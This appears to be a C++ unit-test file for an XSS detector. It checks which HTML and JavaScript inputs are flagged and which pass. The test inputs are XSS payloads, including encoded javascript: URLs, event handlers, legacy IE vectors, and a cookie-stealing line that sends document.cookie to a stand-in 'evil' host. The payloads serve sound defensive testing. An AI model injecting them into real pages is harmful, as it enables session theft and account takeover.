#include <gtest/gtest.h>

#include <string>

#include "detect/detect.h"

namespace centinela::detect {
namespace {

std::string label(std::string_view value) {
  const auto found = detect_xss(value);
  return found ? std::string(found->fingerprint) : std::string();
}

TEST(XssDetectTest, ScriptCapableTags) {
  EXPECT_EQ(label("<script>alert(1)</script>"), "tag:script");
  EXPECT_EQ(label("<ScRiPt src=//evil.example/x.js>"), "tag:script");
  // A frame loads another page in its own origin: script only through a
  // script URL, srcdoc or a handler (a CMS field embeds videos with https).
  EXPECT_EQ(label("<iframe src=https://www.youtube.com/embed/x allowfullscreen></iframe>"), "");
  EXPECT_EQ(label("<iframe src=javascript:alert(1)>"), "url:script");
  EXPECT_EQ(label("<iframe srcdoc=\"&lt;script&gt;\">"), "attr:srcdoc");
  EXPECT_EQ(label("<iframe onload=alert(1)>"), "attr:on");
  EXPECT_EQ(label("<svg/onload=alert(1)>"), "tag:svg");
  EXPECT_EQ(label("<object data=x>"), "tag:object");
  EXPECT_EQ(label("<base href=//evil.example/>"), "tag:base");
  EXPECT_EQ(label("<meta http-equiv=\"refresh\" content=\"0;url=https://evil\">"), "tag:meta");
  EXPECT_EQ(label("<form action=https://evil.example><input name=p>"), "tag:form");
  EXPECT_EQ(label("\"></textarea></script><p>"), "tag:/script");
}

TEST(XssDetectTest, ScriptCapableAttributes) {
  EXPECT_EQ(label("<img src=x onerror=alert(1)>"), "attr:on");
  EXPECT_EQ(label("<div/onmouseover='x'>"), "attr:on");
  EXPECT_EQ(label("<a href=\"javascript:alert(1)\">x</a>"), "url:script");
  EXPECT_EQ(label("<a href=\"&#x6A;ava&#115;cript&colon;alert(1)\">x</a>"), "url:script");
  EXPECT_EQ(label("<a href=\"java&Tab;script:alert(1)\">x</a>"), "url:script");
  EXPECT_EQ(label("<a href=\" \x01javascript:x\">"), "url:script");
  EXPECT_EQ(label("<iframe2 src=\"data:text/html,<b>\">"), "url:data");
  EXPECT_EQ(label("<x srcdoc=\"&lt;b&gt;\">"), "attr:srcdoc");
  EXPECT_EQ(label("<p style=\"width: expression(alert(1))\">"), "attr:style");
  EXPECT_EQ(label("<p style=\"background:url(javascript:alert(1))\">"), "attr:style");
  EXPECT_EQ(label("<button formaction=javascript:alert(1)>"), "url:script");
  EXPECT_EQ(label("<img src=x onerror=alert(1)//"), "attr:on");  // never closed
}

// IE's ways to script through markup that looks inert: data binding
// rendered as HTML, behaviours and bindings in CSS, MHTML documents; and
// links to an address spelt so a filter does not read it as one.
TEST(XssDetectTest, OldBrowsersAndHiddenAddresses) {
  EXPECT_EQ(label("<SPAN DATASRC=\"#x\" DATAFLD=\"B\" DATAFORMATAS=\"HTML\"></SPAN>"),
            "attr:dataformatas");
  EXPECT_EQ(label("<div style=\"behaviour: url(http://x.example/a.htc);\">"), "attr:style");
  EXPECT_EQ(label("<div style=\"binding: url(http://x.example/a.xml#x)\">"), "attr:style");
  EXPECT_EQ(label("<iframe src=mhtml:http://x.example/a.gif!x.html></iframe>"), "url:script");
  EXPECT_EQ(label("<A HREF=\"http://1113982867/\">XSS</A>"), "url:ip");
  EXPECT_EQ(label("<A HREF=\"http://0x42.0x0000066.0x7.0x93/\">XSS</A>"), "url:ip");
  EXPECT_EQ(label("<A HREF=\"http://0102.0146.0007.00000223/\">XSS</A>"), "url:ip");
  for (const char* benign :
       {"<a href=\"http://192.168.1.10/admin\">router</a>",
        "<a href=\"https://example.com/\">x</a>", "<a href=\"https://10.0.0.1:8443/\">x</a>",
        "<a href=\"https://cafe.example/\">cafe</a>", "<a href=\"https://deadbeef.example/\">x</a>",
        "<a href=\"https://12345.example.com\">x</a>",
        "<p style=\"font-family: Bookbinding, serif\">x</p>", "<p data-format=\"html\">x</p>",
        "mhtml is an archive format"}) {
    EXPECT_EQ(label(benign), "") << benign;
  }
}

TEST(XssDetectTest, ScriptUrlOrSentence) {
  EXPECT_EQ(label("javascript:alert(document.cookie)"), "url:script");
  EXPECT_EQ(label("javascript:void(0);alert(1)"), "url:script");
  EXPECT_EQ(label("javascript:/*a b*/alert(1)"), "url:script");
  EXPECT_EQ(label("javascript:typeof alert(1)"), "url:script");
  // A search for an error message: "error chrome" side by side is no script.
  EXPECT_EQ(label("javascript: void(0) error chrome"), "");
}

TEST(XssDetectTest, ScriptStringsAndUrls) {
  EXPECT_EQ(label("\";alert(1)//"), "js:alert");
  EXPECT_EQ(label("'-prompt`1`-'"), "js:prompt");
  EXPECT_EQ(label("alert&lpar;1&rpar;"), "js:alert");
  EXPECT_EQ(label("';document.location='https://evil?c='+document.cookie;//"), "js:location=");
  EXPECT_EQ(label("javascript:alert(document.domain)"), "url:script");
  EXPECT_EQ(label("  JaVaScRiPt:void(0)"), "url:script");
  EXPECT_EQ(label("top['al'+'ert'](1)"), "js:window[");
}

TEST(XssDetectTest, LetsPlainMarkupAndProseThrough) {
  for (const char* benign :
       {"<b>bold</b>", "<p>Hello <i>world</i></p>",
        "<a href=\"https://example.com/?a=1&amp;b=2\">x</a>",
        "<img alt src=https://cdn.example.com/a.png>", "<img alt=\"cat\" src=\"/cat.jpg\">",
        "a < b and c > d", "I <3 you", "<p style=\"color:red\">x</p>",
        "<img src=\"data:image/png;base64,iVBORw0KGgo=\">", "Tom & Jerry", "see: the docs (page 3)",
        "x = [1, 2, 3]", "mailto:info@example.com", "data:image/png;base64,AAAA",
        "Please confirm your address", "<a href=\"mailto:a@example.com\">mail</a>",
        "<blockquote>one</blockquote>", "The <script> tag is for scripts"}) {
    EXPECT_EQ(label(benign),
              (std::string_view(benign) == "The <script> tag is for scripts" ? "tag:script" : ""))
        << benign;
  }
}

TEST(XssDetectTest, HostileInputIsReadInBoundedWork) {
  std::string tags;
  for (int i = 0; i < 100000; ++i) tags += "<a <b c=";
  EXPECT_FALSE(detect_xss(tags));
  std::string styles;
  for (int i = 0; i < 50000; ++i) styles += "<style>e/*";
  EXPECT_NO_FATAL_FAILURE(detect_xss(styles));
  std::string refs;
  for (int i = 0; i < 100000; ++i) refs += "&#0000000000";
  EXPECT_NO_FATAL_FAILURE(detect_xss(refs));
  const std::string nuls("<img\0src=x\0onerror=alert(1)>", 28);
  EXPECT_TRUE(detect_xss(nuls));
}

}  // namespace
}  // namespace centinela::detect
